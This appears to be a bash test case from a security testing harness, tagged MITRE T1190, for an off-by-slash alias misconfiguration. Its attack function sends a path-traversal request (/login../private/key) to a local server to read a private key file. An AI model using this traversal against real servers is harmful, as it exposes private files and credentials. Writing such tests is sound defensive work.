# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1190
about="a location's missing slash serves files beside the site (off-by-slash alias)"
attack() {
	# The hole was there all the time: the map was learned with it.
	ask --path-as-is "http://127.0.0.1:8080/login../private/key" -u user:pass >"$state/answer"
}
effect() { grep -q secret "$state/answer"; }
